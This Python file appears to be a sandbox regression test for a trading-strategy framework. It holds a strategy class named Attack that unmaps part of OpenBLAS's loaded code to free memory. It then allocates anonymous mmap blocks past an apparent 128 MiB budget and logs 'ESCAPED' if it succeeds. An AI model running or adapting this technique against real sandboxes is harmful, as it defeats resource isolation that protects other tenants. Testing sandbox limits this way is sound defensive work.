"""Gives back the code of a library that it does not need, to take as much memory beyond its budget."""

# ends: -
# escapes without: seccomp limits all

import ctypes
import mmap
import sys

from inalpha import Bar, Strategy

MIB = 1 << 20


class Attack(Strategy):
    def on_bar(self, bar: Bar) -> None:
        if bar.sequence:
            return
        libc = ctypes.CDLL(None)
        self.give_back(libc)
        self.blocks = []
        for kind in (mmap.MAP_PRIVATE, mmap.MAP_SHARED):
            try:
                while len(self.blocks) < 180:
                    self.blocks.append(mmap.mmap(-1, MIB, flags=kind | mmap.MAP_ANONYMOUS))
            except (OSError, MemoryError):
                continue
        told = f"{len(self.blocks)} MiB"
        if len(self.blocks) > 128:
            told = f"ESCAPED: {told}"
        self.blocks.clear()
        self.log(told)

    def give_back(self, libc: ctypes.CDLL) -> None:
        """The code of OpenBLAS around one of its functions, as far as it is mapped."""
        for module in list(sys.modules.values()):
            name = str(getattr(module, "__file__", ""))
            if "_umath_linalg" in name:
                blas = ctypes.PyDLL(name)
                first = ctypes.cast(blas.scipy_cblas_dgemm64_, ctypes.c_void_p).value & ~4095
                libc.munmap(ctypes.c_void_p(first), ctypes.c_size_t(8 * MIB))
                return
